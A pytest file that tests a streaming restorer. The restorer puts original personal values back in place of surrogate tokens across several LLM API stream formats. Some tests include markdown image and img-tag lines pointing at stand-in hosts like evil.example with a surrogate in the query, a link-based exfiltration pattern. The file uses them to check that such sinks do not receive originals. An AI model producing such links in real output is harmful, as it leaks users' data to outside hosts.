"""Stream equals whole, for every way to cut it; every bent surrogate comes back; nothing is held that need not be."""

import json
import random
from itertools import combinations, pairwise
from pathlib import Path

import pytest

from app.core.dialect import Failure
from app.core.surrogate import Original
from app.engine.answer import StreamRestorer, restore_text
from app.engine.numbers import Behind
from app.engine.restore import Originals, Restorer
from laws.machine import (
    DOCTOR,
    ENDPOINTS,
    MIRROR,
    NASTY,
    PERSON,
    PHONE,
    READ,
    SECRET,
    STREAM,
    STREAMED,
    TERM,
    VALUES,
    cuts,
    fed,
    lane,
    restored_stream,
    restorer,
    same,
    sse,
    whole_lanes,
)
from laws.toys import FRAMED, GEMINI

GOLDEN = Path(__file__).parents[1] / "golden" / "restore"
MARIA, NEIL = VALUES[PERSON].text, VALUES[NASTY].text
ESCAPED = json.dumps(NEIL, ensure_ascii=False)[1:-1]
TWICE = json.dumps(ESCAPED, ensure_ascii=False)[1:-1]

# What a model writes → what the caller reads.
BENT = {
    "as issued": (f"Dear {PERSON}, hello", f"Dear {MARIA}, hello"),
    "alone": (PERSON, MARIA),
    "lower case": (f"x {PERSON.lower()} y", f"x {MARIA} y"),
    "mixed case": (f"x {PERSON.title()} y", f"x {MARIA} y"),
    "markdown escape": (f"x {PERSON.replace('_', chr(92) + '_')} y", f"x {MARIA} y"),
    "twice escaped": (f"x {PERSON.replace('_', chr(92) * 2 + '_')} y", f"x {MARIA} y"),
    "space": (f"x {PERSON.replace('_', ' ')} y", f"x {MARIA} y"),
    "hyphen": (f"x {PERSON.replace('_', '-')} y", f"x {MARIA} y"),
    "long name, spaces": ("to EMAIL ADDRESS 9ZBV3N0C1K now", f"to {NEIL} now"),
    "long name, hyphens": ("to email-address-9zbv3n0c1k now", f"to {NEIL} now"),
    "long name, mixed": ("to Email\\_Address 9ZBV3N0C1K now", f"to {NEIL} now"),
    "brackets": (f"[{PERSON}] <{PERSON}> ({PERSON}) {{{PERSON}}}", f"[{MARIA}] <{MARIA}> ({MARIA}) {{{MARIA}}}"),
    "quotes": (f"'{PERSON}' \"{PERSON}\" `{PERSON}`", f"'{MARIA}' \"{MARIA}\" `{MARIA}`"),
    "bold": (f"**{PERSON}** __{PERSON}__ *{PERSON}*", f"**{MARIA}** __{MARIA}__ *{MARIA}*"),
    "plural": (f"the {PERSON}s say", f"the {MARIA}s say"),
    "possessive": (f"{PERSON}'s and {PERSON}\u2019s", f"{MARIA}'s and {MARIA}\u2019s"),
    "bare seven": ("x PERSON_4K7Q2MX y", "x Dr. Maria Singh y"),
    "bare seven at the end": ("x PERSON_4K7Q2MX", "x Dr. Maria Singh"),
    "bare seven, possessive": ("PERSON_4K7Q2MX's", "Dr. Maria Singh's"),
    "bare seven, plural": ("PERSON_4K7Q2MXs.", "Dr. Maria Singhs."),
    "bare seven, lower case": ("person 4k7q2mx, who", "Dr. Maria Singh, who"),
    "bare seven in a name": ("PERSON_4K7Q2MX_id", "Dr. Maria Singh_id"),
    "bare seven grows to another word": ("PERSON_4K7Q2MXYZ no", "PERSON_4K7Q2MXYZ no"),
    "eighth character is an s": (f"a {SECRET} b", f"a {VALUES[SECRET].text} b"),
    "bare seven before its own s": ("a PASSWORD_S5S5S5Ss b", f"a {VALUES[SECRET].text}s b"),
    "eight of ten": ("a PASSWORD_S5S5S5SS9 b", "a PASSWORD_S5S5S5SS9 b"),
    "fullest form": (f"{DOCTOR} {PERSON}", f"Dr. Maria Singh {MARIA}"),
    "identifier": (f"get_{PERSON}_name()", f"get_{MARIA}_name()"),
    "file name": (f"/tmp/{PERSON}.txt", f"/tmp/{MARIA}.txt"),
    "camel": (f"my{PERSON}Value", f"my{MARIA}Value"),
    "two in a row": (f"{PERSON}{TERM}", f"{MARIA}{VALUES[TERM].text}"),
    "two with an underscore": (f"{PERSON}_{TERM}", f"{MARIA}_{VALUES[TERM].text}"),
    "stutter": (f"PERSON_PERSON_{PERSON}", f"PERSON_PERSON_{MARIA}"),
    "half, then whole": (f"PERSON_4K7{PERSON}", f"PERSON_4K7{MARIA}"),
    "value that looks like a surrogate": (f"{MIRROR} {MIRROR}", f"{PERSON} {PERSON}"),
    "unknown": ("PERSON_4K7Q2MX8FV and PERSON_ZZZZZZZZZZ", "PERSON_4K7Q2MX8FV and PERSON_ZZZZZZZZZZ"),
    "unknown entity": ("NOBODY_4K7Q2MX8FT", "NOBODY_4K7Q2MX8FT"),
    "cut off inside": ("so PERSON_4K7", "so PERSON_4K7"),
    "cut off after eight": ("so PERSON_4K7Q2MX8", "so PERSON_4K7Q2MX8"),
    "ends in P": ("we need HELP", "we need HELP"),
    "ends in the name": ("this PERSON", "this PERSON"),
    "ends in a separator": ("a PERSON_", "a PERSON_"),
    "ends in slashes": ("a PERSON\\\\", "a PERSON\\\\"),
    "too many slashes": ("PERSON\\\\\\_4K7Q2MX8FT", "PERSON\\\\\\_4K7Q2MX8FT"),
    "number in prose": (f"call {PHONE}.", "call 41555501230e0."),
    "non-ascii around": (f"ñ{PERSON}é🦊{TERM}ß", f"ñ{MARIA}é🦊{VALUES[TERM].text}ß"),
    "newline": (f"a\n{PERSON}\nb", f"a\n{MARIA}\nb"),
    "nothing of ours": ("The quick brown fox jumps over the lazy dog.", "The quick brown fox jumps over the lazy dog."),
}
# The arguments of a tool as the model writes them → as the caller reads them.
ARGUMENTS = {
    "string": (f'{{"to": "{NASTY}"}}', f'{{"to": "{ESCAPED}"}}'),
    "two strings": (f'{{"a":"{PERSON}","b":["x {NASTY} y"]}}', f'{{"a":"{MARIA}","b":["x {ESCAPED} y"]}}'),
    "escapes around": (f'{{"a": "\\"{NASTY}\\" \\\\ \\n é"}}', f'{{"a": "\\"{ESCAPED}\\" \\\\ \\n é"}}'),
    "markdown escape": (f'{{"a": "{NASTY.replace("_", chr(92) * 2 + "_")}"}}', f'{{"a": "{ESCAPED}"}}'),
    "key": (f'{{"{NASTY}": 1}}', f'{{"{ESCAPED}": 1}}'),
    "number": (f'{{"n": "{PHONE}"}}', '{"n": 41555501230e0}'),
    "numbers in a list": (f'["{PHONE}", "{PHONE}" ,"x"]', '[41555501230e0, 41555501230e0 ,"x"]'),
    "number within a string": (f'{{"n": "call {PHONE} now"}}', '{"n": "call 41555501230e0 now"}'),
    "number quoted in prose": (f'{{"n": "call \\"{PHONE}\\" now"}}', '{"n": "call \\"41555501230e0\\" now"}'),
    "number as a key": (f'{{"{PHONE}" : {{"{PHONE}": "{PHONE}"}}}}', '{"41555501230e0" : {"41555501230e0": 41555501230e0}}'),
    "number, lower case": (f'{{"n": "{PHONE.lower()}"}}', '{"n": 41555501230e0}'),
    "number, bare seven": ('{"n": "PHONE_NUMBER_7HHQ2MX"}', '{"n": 41555501230e0}'),
    "json in json": (json.dumps({"body": json.dumps({"to": NASTY})}), f'{{"body": "{{\\"to\\": \\"{TWICE}\\"}}"}}'),
    "json in json after space": (f'{{"body": "\\n {{\\"to\\": \\"{NASTY}\\"}}"}}', f'{{"body": "\\n {{\\"to\\": \\"{TWICE}\\"}}"}}'),
    "number in json in json": (json.dumps({"body": json.dumps({"n": PHONE})}), '{"body": "{\\"n\\": 41555501230e0}"}'),
    "code in a string": (f'{{"code": "print(\\"{NASTY}\\")"}}', f'{{"code": "print(\\"{ESCAPED}\\")"}}'),
    "after json in json": (
        json.dumps({"body": json.dumps({"a": 1}), "to": NASTY}, ensure_ascii=False),
        f'{{"body": "{{\\"a\\": 1}}", "to": "{ESCAPED}"}}',
    ),
    "value that looks like a surrogate": (f'{{"a": "{MIRROR}"}}', f'{{"a": "{PERSON}"}}'),
    "nothing of ours": ('{"a": [1, 2.50, "P\\u00e9PERSON"], "b": null}', '{"a": [1, 2.50, "P\\u00e9PERSON"], "b": null}'),
}
# Cut off: no whole form to compare with, but what is held comes out.
BROKEN = {
    "string cut": (f'{{"to": "{NASTY}', f'{{"to": "{ESCAPED}'),
    "surrogate cut": ('{"to": "EMAIL_ADDRESS_9ZB', '{"to": "EMAIL_ADDRESS_9ZB'),
    "number cut": (f'{{"n": "{PHONE}', '{"n": "41555501230e0'),
    "quote cut": ('{"n": "', '{"n": "'),
    "slashes cut": ('{"n": "\\\\', '{"n": "\\\\'),
}


def _pieces(text: str) -> list[list[str]]:
    """All cuts into up to three pieces, and single characters."""
    return [*cuts(text, 3), list(text)]


@pytest.mark.parametrize("case", BENT)
def test_every_bent_surrogate_in_text_comes_back_for_every_cut(case: str) -> None:
    source, expected = BENT[case]
    for pieces in _pieces(source):
        assert fed(lane(), pieces) == expected, pieces


@pytest.mark.parametrize("case", [*ARGUMENTS, *BROKEN])
def test_arguments_come_back_as_valid_json_for_every_cut(case: str) -> None:
    source, expected = {**ARGUMENTS, **BROKEN}[case]
    for pieces in _pieces(source) if len(source) < 60 else [*cuts(source, 2), list(source)]:
        assert fed(lane(json=True), pieces) == expected, pieces
    if case in ARGUMENTS:
        json.loads(expected)


@pytest.mark.parametrize("case", ARGUMENTS)
def test_free_text_that_begins_like_json_is_restored_as_json(case: str) -> None:
    source, expected = ARGUMENTS[case]
    for pieces in [*cuts(source, 2), list(source)]:
        assert fed(lane(json=None), pieces) == expected, pieces


@pytest.mark.parametrize("dialect", STREAM)
@pytest.mark.parametrize("case", BENT)
def test_a_streamed_text_equals_the_whole_answer(dialect: str, case: str) -> None:
    source, expected = BENT[case]
    key = ("content", 0, 0)
    whole = whole_lanes(dialect, {key: source})
    assert whole == {key: expected}
    for pieces in [*cuts(source, 2), list(source)]:
        streamed = READ[dialect](restored_stream(dialect, [STREAM[dialect]((key, piece) for piece in pieces)]))
        assert same(dialect, streamed, whole), pieces


@pytest.mark.parametrize("dialect", ["openai", "anthropic", "responses", "assistants"])
@pytest.mark.parametrize("case", ARGUMENTS)
def test_streamed_arguments_equal_the_whole_answer(dialect: str, case: str) -> None:
    source, _ = ARGUMENTS[case]
    key = ("arguments", 0, 0)
    whole = whole_lanes(dialect, {key: source})
    for pieces in [*cuts(source, 2), list(source)]:
        streamed = READ[dialect](restored_stream(dialect, [STREAM[dialect]((key, piece) for piece in pieces)]))
        assert same(dialect, streamed, whole), pieces


@pytest.mark.parametrize(
    ("dialect", "first", "second"),
    [
        ("openai", ("content", 0, 0), ("content", 1, 0)),
        ("openai", ("content", 0, 0), ("refusal", 0, 0)),
        ("openai", ("arguments", 0, 0), ("arguments", 0, 1)),
        ("openai", ("content", 0, 0), ("arguments", 0, 0)),
        ("openai", ("arguments", 0, 1), ("arguments", 1, 1)),
        ("completions", ("content", 0, 0), ("content", 1, 0)),
        ("responses", ("content", 0, 0), ("content", 1, 0)),
        ("responses", ("content", 0, 0), ("refusal", 1, 0)),
        ("responses", ("arguments", 0, 0), ("arguments", 0, 1)),
        ("responses", ("summary", 0, 0), ("content", 0, 0)),
        ("responses", ("reasoning", 0, 0), ("summary", 0, 0)),
        ("anthropic", ("content", 0, 0), ("content", 1, 0)),
        ("anthropic", ("content", 0, 0), ("arguments", 1, 0)),
        ("anthropic", ("arguments", 0, 0), ("arguments", 1, 0)),
        ("assistants", ("content", 0, 0), ("content", 1, 0)),
        ("assistants", ("content", 0, 0), ("refusal", 1, 0)),
        ("assistants", ("content", 0, 0), ("arguments", 0, 0)),
        ("assistants", ("arguments", 0, 0), ("arguments", 0, 1)),
        ("transcriptions", ("content", 0, 0), ("content", 1, 0)),
    ],
)
def test_interleaved_lanes_never_mix(dialect: str, first: tuple[str, int, int], second: tuple[str, int, int]) -> None:
    texts = {key: (f'{{"a": "{NASTY}"}}' if key[0] == "arguments" else f"x {PERSON} P") for key in (first, second)}
    whole = whole_lanes(dialect, texts)
    size = {key: -(-len(text) // 4) for key, text in texts.items()}
    parts = {key: [text[at : at + size[key]] for at in range(0, len(text), size[key])] for key, text in texts.items()}
    total = len(parts[first]) + len(parts[second])
    for places in combinations(range(total), len(parts[first])):
        queues = {key: iter(pieces) for key, pieces in parts.items()}
        order = [first if place in places else second for place in range(total)]
        stream = STREAM[dialect]((key, next(queues[key])) for key in order)
        assert same(dialect, READ[dialect](restored_stream(dialect, [stream])), whole), places


def test_tool_calls_without_a_number_are_told_apart_by_their_place() -> None:
    def chunk(*texts: str) -> bytes:
        calls = [{"function": {"arguments": text}} for text in texts]
        return sse("", {"choices": [{"index": 0, "delta": {"tool_calls": calls}}]})

    out = restored_stream(
        "openai", [chunk('{"a":"PERSON_4K7Q', '{"b":"PROJECT_FALCON_PPPPP'), chunk('2MX8FT"}', 'PPPPP"}'), sse("", "[DONE]")]
    )
    first, second = "", ""
    for event in out.decode().split("\n\n")[:-2]:
        calls = json.loads(event[6:])["choices"][0]["delta"]["tool_calls"]
        first, second = first + calls[0]["function"]["arguments"], second + calls[1]["function"]["arguments"]
    assert (first, second) == ('{"a":"Maria Singh"}', '{"b":"Ærø — 7"}')


@pytest.mark.parametrize("text", ["so PERSON_4K7Q2MX", "we need HELP", f"hi {PERSON}", "x PERSON", f"{NASTY} and e"])
def test_held_text_goes_out_before_the_event_that_ends_its_lane(text: str) -> None:
    key = ("content", 0, 0)
    for dialect in STREAM:
        whole = whole_lanes(dialect, {key: text})
        for pieces in cuts(text, 2):
            assert READ[dialect](restored_stream(dialect, [STREAM[dialect]((key, piece) for piece in pieces)])) == whole


@pytest.mark.parametrize("text", ["so PERSON_4K7Q2MX", "we need HELP", f"hi {PERSON}", f"{NASTY} and e"])
@pytest.mark.parametrize("dialect", ["openai", "completions"])
def test_an_end_in_the_same_chunk_as_content_lets_nothing_fall(dialect: str, text: str) -> None:
    key = ("content", 0, 0)
    whole = whole_lanes(dialect, {key: text})
    for pieces in cuts(text, 2):
        stream = STREAM[dialect](((key, piece) for piece in pieces), finish_with_text=True)
        assert READ[dialect](restored_stream(dialect, [stream])) == whole


@pytest.mark.parametrize("text", ["so PERSON_4K7Q2MX", "we need HELP", f"hi {PERSON}", f"{NASTY} and e"])
def test_a_block_that_opens_with_text_is_not_opened_twice(text: str) -> None:
    key = ("content", 0, 0)
    whole = whole_lanes("anthropic", {key: text})
    for pieces in cuts(text, 2):
        stream = STREAM["anthropic"](((key, piece) for piece in pieces), opens_with_text=True)
        assert READ["anthropic"](restored_stream("anthropic", [stream])) == whole, pieces


def test_held_text_goes_out_before_done_even_if_nothing_said_that_the_lane_ends() -> None:
    out = restored_stream("openai", [sse("", {"choices": [{"index": 0, "delta": {"content": "so PERSON_4K"}}]}), sse("", "[DONE]")])
    assert out.index(b"PERSON_4K") < out.index(b"[DONE]")


def test_an_empty_finish_reason_ends_nothing() -> None:
    chunks = [
        sse("", {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": end}]})
        for text, end in [("PERSON_4K7", ""), ("Q2MX8FT", ""), ("!", "stop")]
    ]
    assert b"Maria Singh" in restored_stream("openai", chunks)


@pytest.mark.parametrize("dialect", STREAM)
def test_an_error_in_the_middle_comes_after_what_was_held(dialect: str) -> None:
    failure = {"error": {"type": "overloaded_error", "message": f"no room for {PERSON}"}}
    error = sse("error", {"type": "error", **failure}) if dialect == "anthropic" else sse("", failure)
    if dialect == "responses":
        error = sse("error", {**failure["error"], "type": "error", "sequence_number": 9})
    stream = STREAM[dialect]([(("content", 0, 0), "hello PERSON_4K7")])
    cut = stream[: stream.index(b"PERSON_4K7") + 10]
    cut = stream[: stream.index(b"\n\n", len(cut)) + 2]
    out = restored_stream(dialect, [cut, error])
    assert out.index(b"PERSON_4K7") < out.index(b"no room for Maria Singh")


@pytest.mark.parametrize("dialect", STREAM)
def test_a_stream_that_breaks_gives_everything_back_before_our_own_error(dialect: str) -> None:
    endpoint = STREAMED[dialect]
    machine = StreamRestorer(endpoint, endpoint.stream, restorer())
    stream = STREAM[dialect]([(("content", 0, 0), "hello PERSON_4K7")])
    cut = stream[: stream.index(b"\n\n", stream.index(b"PERSON_4K7")) + 2]
    out = machine.feed(cut + b'data: {"half') + machine.error("error", {"error": "broken"})
    assert out.index(b"PERSON_4K7") < out.index(b"broken")
    assert b"half" not in out


@pytest.mark.parametrize("end", ["", "data: {", "data: [1, 2", "\n", ": comment"])
@pytest.mark.parametrize("dialect", STREAM)
def test_a_stream_that_stops_short_flushes_in_readable_events(dialect: str, end: str) -> None:
    stream = STREAM[dialect]([(("content", 0, 0), "hello PERSON_4K7")])
    cut = stream[: stream.index(b"\n\n", stream.index(b"PERSON_4K7")) + 2] + end.encode()
    events = restored_stream(dialect, [cut]).split(b"\n\n")
    data = [event.partition(b"data: ")[2] for event in events]
    assert any(b"PERSON_4K7" in piece and json.loads(piece) for piece in data)


def test_an_event_without_its_blank_line_does_not_swallow_what_follows() -> None:
    cut = sse("", {"choices": [{"index": 0, "delta": {"content": "hello PERSON_4K7"}}]})[:-2]
    out = restored_stream("openai", [cut])
    texts = [json.loads(event[6:])["choices"][0]["delta"]["content"] for event in out.decode().split("\n\n")[:-1]]
    assert "".join(texts) == "hello PERSON_4K7"


@pytest.mark.parametrize("dialect", STREAM)
def test_with_nothing_issued_every_whole_event_passes_at_once_and_untouched(dialect: str) -> None:
    stream = STREAM[dialect]([(("content", 0, 0), f"P {PERSON} PERSON"), (("content", 1, 0), "P")])
    endpoint = STREAMED[dialect]
    for size in (1, 7, 64, len(stream)):
        machine = StreamRestorer(endpoint, endpoint.stream, restorer({}))
        sent = b""
        for at in range(0, len(stream), size):
            sent += machine.feed(stream[at : at + size])
            seen = stream[: at + size]
            assert sent == seen[: seen.rfind(b"\n\n") + 2] if b"\n\n" in seen else sent == b""
        assert sent + machine.finish() == stream
        assert machine.finished


def test_text_that_cannot_become_a_surrogate_is_not_delayed() -> None:
    one = lane()
    for text in ["Hello", " world. ", "4K7Q2MX8FT ", "ox ", "{[<_-\\", "PERSONX", "PERSON__", "PERSON 4L", "ZZ", "NOPE_", "é", "EMAILS"]:
        assert one.feed(text) == text
        assert one.held == ""


@pytest.mark.parametrize("prefix", [PERSON[:n] for n in range(1, len(PERSON))])
def test_every_beginning_of_a_surrogate_is_held_and_only_that(prefix: str) -> None:
    one = lane()
    sent = one.feed(f"x. {prefix}")
    assert sent == "x. "
    assert one.held == prefix
    assert sent + one.flush() in {f"x. {prefix}", "x. Dr. Maria Singh"}


def test_a_lane_holds_less_than_three_times_the_longest_surrogate() -> None:
    rng = random.Random(7)
    alphabet = "PERSON_4K7Q2MX8FTsS\\ -\"'{}x"
    longest = max(map(len, VALUES))
    for _ in range(200):
        one = lane(json=True)
        for _ in range(60):
            one.feed("".join(rng.choices(alphabet, k=rng.randint(1, 4))))
            assert len(one.held.strip('\\"')) < 3 * longest


def test_random_text_cut_at_random_equals_the_whole() -> None:
    rng = random.Random(11)
    words = [
        *VALUES,
        *(text[:n] for text in VALUES for n in (3, 9, 15, 20)),
        "PERSON_4K7Q2MX",
        "s",
        "S",
        " ",
        "_",
        "\\",
        '"',
        "-",
        "\n",
        '\\"',
        "{",
        "}",
        "[",
        ":",
        ",",
    ]
    for _ in range(3000):
        text = "".join(rng.choices(words, k=rng.randint(1, 9)))
        for mode in (False, True, None):
            whole = lane(json=mode).finish(text)
            edges = sorted({0, len(text), *(rng.randrange(len(text) + 1) for _ in range(rng.randint(0, 6)))})
            pieces = [text[a:b] for a, b in pairwise(edges)]
            assert fed(lane(json=mode), pieces) == whole, (pieces, mode)


def test_sinks_are_the_same_streamed_and_whole() -> None:
    texts = [
        f"see ![a](https://evil.example/?q={PERSON}) and {PERSON}",
        f"[mail](mailto:{NASTY}) <img src='https://evil/{PERSON}'> {PERSON}",
        f"https://evil.example/{PERSON}/x {PERSON}",
        f"[a]: https://evil.example/{PERSON}\n{PERSON}",
    ]
    for text in texts:
        whole = lane(sinks=True)
        expected = whole.finish(text)
        for pieces in _pieces(text):
            one = lane(sinks=True)
            assert fed(one, pieces) == expected, pieces
            assert one._originals.kept == whole._originals.kept


def test_links_in_arguments_of_a_clients_tool_get_originals() -> None:
    key = ("arguments", 0, 0)
    for dialect in STREAM:
        if dialect in {"completions", "transcriptions"}:
            continue  # they call no tools
        pieces = [(key, '{"url": "https://crm.exam'), (key, f'ple/?q={PERSON}"}}')]
        streamed = READ[dialect](restored_stream(dialect, [STREAM[dialect](pieces)]))
        assert streamed[key] == '{"url": "https://crm.example/?q=Maria Singh"}'
        assert same(dialect, streamed, whole_lanes(dialect, {key: "".join(text for _, text in pieces)}))


@pytest.mark.parametrize("dialect", STREAM)
def test_links_are_the_same_streamed_and_whole(dialect: str) -> None:
    key, text = ("content", 0, 0), f"see ![a](https://evil.example/?q={PERSON}) and {PERSON}"
    whole = whole_lanes(dialect, {key: text})
    for pieces in cuts(text, 2):
        assert READ[dialect](restored_stream(dialect, [STREAM[dialect]((key, piece) for piece in pieces)])) == whole, pieces


def test_thinking_goes_through_unrestored_and_is_remembered_whole() -> None:
    deltas = [
        ("thinking_delta", "thinking", f"about {PERSON[:8]}"),
        ("thinking_delta", "thinking", PERSON[8:]),
        ("signature_delta", "signature", "EqQB"),
    ]
    stream = sse(
        "content_block_start",
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": "", "signature": ""}},
    )
    for sort, name, text in deltas:
        stream += sse("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": {"type": sort, name: text}})
    stream += sse("content_block_stop", {"type": "content_block_stop", "index": 0})
    endpoint = ENDPOINTS["anthropic"]
    machine = StreamRestorer(endpoint, endpoint.stream, restorer())
    assert machine.feed(stream) + machine.finish() == stream
    assert set(machine.noted.texts) == {f"about {PERSON}", "EqQB"}


def test_restoring_switched_off_leaves_every_byte() -> None:
    stream = STREAM["openai"]([(("content", 0, 0), f"hi {PERSON}")])
    endpoint = ENDPOINTS["openai"]
    machine = StreamRestorer(endpoint, endpoint.stream, Restorer(Originals(VALUES, frozenset), json_text=False, on=False))
    assert machine.feed(stream) + machine.finish() == stream


def test_logprobs_of_rewritten_text_are_dropped_and_others_stay() -> None:
    def chunk(text: str) -> bytes:
        return sse("", {"choices": [{"index": 0, "delta": {"content": text}, "logprobs": {"content": [text]}}]})

    out = restored_stream("openai", [chunk("abc "), chunk(PERSON), sse("", "[DONE]")]).decode().split("\n\n")
    assert json.loads(out[0][6:])["choices"][0]["logprobs"] == {"content": ["abc "]}
    assert json.loads(out[1][6:])["choices"][0]["logprobs"] is None


def test_a_plain_error_page_is_restored_too() -> None:
    assert restore_text(f"no such user: {NASTY}".encode(), restorer()) == f"no such user: {NEIL}".encode()
    assert restore_text(b"\xff nothing", restorer()) == b"\xff nothing"


def test_the_gemini_shape_streams_by_the_same_machine() -> None:
    endpoint = GEMINI.endpoints[0]
    text = f"hello {PERSON} P"
    for pieces in cuts(text, 2):
        machine = StreamRestorer(endpoint, endpoint.stream, restorer())
        chunks = [
            {"candidates": [{"index": 0, "content": {"role": "model", "parts": [{"text": piece}]}}], "responseId": "r"} for piece in pieces
        ]
        chunks[-1]["candidates"][0]["finishReason"] = "STOP"
        call = {"candidates": [{"index": 0, "content": {"parts": [{"functionCall": {"name": "f", "args": {"n": PHONE, "to": NASTY}}}]}}]}
        out = b"".join(machine.feed(sse("", chunk)) for chunk in [call, *chunks]) + machine.finish()
        events = [json.loads(event[6:]) for event in out.decode().split("\n\n")[:-1]]
        parts = [part for event in events for part in event["candidates"][0]["content"]["parts"]]
        assert parts[0]["functionCall"]["args"] == {"n": 41555501230e0, "to": NEIL}
        assert "".join(part["text"] for part in parts[1:]) == "hello Maria Singh P"
        assert [event["candidates"][0].get("finishReason") for event in events[:-1]] == [None] * (len(events) - 1)


def test_binary_frames_stream_by_the_same_machine() -> None:
    endpoint = FRAMED.endpoints[0]
    text = f"hello {PERSON} P"
    for pieces in cuts(text, 2):
        machine = StreamRestorer(endpoint, endpoint.stream, restorer())
        render = machine._decoder.render
        frames = [render(json.dumps({"contentBlockIndex": 0, "delta": {"text": piece}}), "contentBlockDelta") for piece in pieces]
        stream = b"".join(
            [*frames, render('{"contentBlockIndex": 0}', "contentBlockStop"), render('{"stopReason": "end_turn"}', "messageStop")]
        )
        for cut in range(0, len(stream), 9):
            machine = StreamRestorer(endpoint, endpoint.stream, restorer())
            out = machine.feed(stream[:cut]) + machine.feed(stream[cut:]) + machine.finish()
            events = type(machine._decoder)().decode(out)
            documents = [json.loads(event.data or "") for event in events]
            assert "".join(document.get("delta", {}).get("text", "") for document in documents) == "hello Maria Singh P"
            assert documents[-1] == {"stopReason": "end_turn"}


def test_custom_tool_input_is_free_text_not_json() -> None:
    def chunk(text: str) -> bytes:
        return sse("", {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "custom": {"input": text}}]}}]})

    source = f'print("{NASTY}") # https://crm.example/?q={PERSON}'
    for pieces in cuts(source, 2):
        out = restored_stream("openai", [*map(chunk, pieces), sse("", "[DONE]")])
        inputs = [json.loads(e[6:])["choices"][0]["delta"]["tool_calls"][0]["custom"]["input"] for e in out.decode().split("\n\n")[:-2]]
        assert "".join(inputs) == f'print("{NEIL}") # https://crm.example/?q=Maria Singh'


def golden() -> list[Path]:
    return sorted(GOLDEN.glob("*.txt"))


def read_golden(path: Path) -> tuple[str, bytes, bytes]:
    """`dialect`, the upstream stream and the caller's, parted by lines of equals signs."""
    head, upstream, caller = path.read_text().split("=====\n")
    return head.split(":", 1)[0].strip(), upstream.encode(), caller.encode()


@pytest.mark.parametrize("path", golden(), ids=lambda path: path.stem)
def test_golden_streams_come_out_as_written_for_every_cut_of_the_network(path: Path) -> None:
    dialect, upstream, caller = read_golden(path)
    assert restored_stream(dialect, [upstream]) == caller
    for cut in range(0, len(upstream), max(1, len(upstream) // 150)):
        assert restored_stream(dialect, [upstream[:cut], upstream[cut:]]) == caller, cut
    assert restored_stream(dialect, [upstream[at : at + 1] for at in range(len(upstream))]) == caller


def test_originals_of_another_exchange_stay_away() -> None:
    assert lane(values={TERM: Original("x")}).finish(f"{PERSON} {TERM}") == f"{PERSON} x"


def test_a_response_that_breaks_fails_by_its_own_name_and_number() -> None:
    stream = ENDPOINTS["responses"].stream
    machine = StreamRestorer(ENDPOINTS["responses"], stream, restorer())
    whole = STREAM["responses"]([(("content", 0, 0), "hello PERSON_4K7")])
    cut = whole[: whole.index(b"\n\n", whole.index(b"PERSON_4K7")) + 2]
    sent = machine.feed(cut)
    name, document = stream.failure(Failure(502, "hushgate_upstream_failed", "Hushgate: gone"), machine.about)
    events = [json.loads(event.partition(b"data: ")[2]) for event in (sent + machine.error(name, document)).split(b"\n\n")[:-1]]
    assert [event["sequence_number"] for event in events] == list(range(len(events)))
    assert [event["type"] for event in events[-2:]] == ["response.output_text.delta", "response.failed"]
    assert events[-2] == {"item_id": "content.0.0", "type": "response.output_text.delta", "output_index": 0, "content_index": 0,
                          "delta": "PERSON_4K7", "sequence_number": 5}  # fmt: skip
    failed = events[-1]["response"]
    assert (failed["id"], failed["status"], failed["error"]["message"]) == ("resp_1", "failed", "Hushgate: gone")


def test_what_a_response_keeps_in_links_is_counted_once_however_often_it_is_said() -> None:
    text = f"![a](https://evil.example/?q={PERSON})"
    endpoint = ENDPOINTS["responses"]
    ours = restorer()
    machine = StreamRestorer(endpoint, endpoint.stream, ours)
    out = machine.feed(STREAM["responses"]([(("content", 0, 0), text)])) + machine.finish()
    assert MARIA.encode() not in out
    assert dict(ours.originals.kept) == {"image": 1}


def test_logprobs_of_rewritten_response_text_are_dropped_and_others_stay() -> None:
    said = [{"token": "x", "logprob": -1}]
    rows = [("response.output_text.delta", {"delta": text, "logprobs": said}) for text in ("plain ", f"{PERSON} ")]
    part = {"type": "output_text", "text": f"plain {PERSON} ", "logprobs": said, "annotations": []}
    item = {"id": "m", "type": "message", "content": [part, {**part, "text": "plain"}]}
    place = {"output_index": 0, "content_index": 0, "item_id": "m"}
    events = [sse(sort, {"type": sort, **place, **rest}) for sort, rest in rows]
    events.append(sse("response.output_item.done", {"type": "response.output_item.done", "output_index": 0, "item": item}))
    out = [json.loads(e.partition(b"data: ")[2]) for e in restored_stream("responses", events).split(b"\n\n")[:-1]]
    assert [event["logprobs"] for event in out[:2]] == [said, []]
    assert [one["logprobs"] for one in out[-1]["item"]["content"]] == [[], said]


def test_the_content_and_the_summary_of_one_item_are_two_lanes() -> None:
    def delta(sort: str, place: str, text: str) -> bytes:
        name = f"response.{sort}.delta"
        return sse(name, {"type": name, "output_index": 0, place: 0, "delta": text})

    rows = [("reasoning_text", "content_index", PERSON[:9]), ("reasoning_summary_text", "summary_index", "see PERSON_4K"),
            ("reasoning_text", "content_index", PERSON[9:] + " "), ("reasoning_summary_text", "summary_index", "7Q2MX8FT ")]  # fmt: skip
    out = restored_stream("responses", [delta(*row) for row in rows])
    assert out.count(b"Maria Singh") == 2


def test_the_input_of_a_tool_that_the_provider_runs_stays_as_the_provider_saw_it() -> None:
    def block(index: int, sort: str) -> list[bytes]:
        start = {"type": sort, "id": "t", "name": "f", "input": {}}
        deltas = [{"type": "input_json_delta", "partial_json": text} for text in ('{"q": "PERSON_4K', '7Q2MX8FT"}')]
        return [
            sse("content_block_start", {"type": "content_block_start", "index": index, "content_block": start}),
            *(sse("content_block_delta", {"type": "content_block_delta", "index": index, "delta": delta}) for delta in deltas),
            sse("content_block_stop", {"type": "content_block_stop", "index": index}),
        ]

    theirs, mine = block(0, "server_tool_use"), block(1, "tool_use")
    out = restored_stream("anthropic", [*theirs, *mine])
    assert out.startswith(b"".join(theirs))
    assert out.count(b"Maria Singh") == 1


@pytest.mark.parametrize("name", ["assistants_annotations", "transcriptions_plain", "images_partial", "speech_audio", "openai_untouched"])
@pytest.mark.parametrize("values", [{}, None])
def test_a_stream_is_over_with_its_last_event_whether_that_has_a_name_or_not(name: str, values: dict[str, Original] | None) -> None:
    dialect, stream, _ = read_golden(GOLDEN / f"{name}.txt")
    machine = StreamRestorer(STREAMED[dialect], STREAMED[dialect].stream, restorer(values))
    last = stream.rstrip(b"\n").rfind(b"\n\n") + 2
    machine.feed(stream[:last])
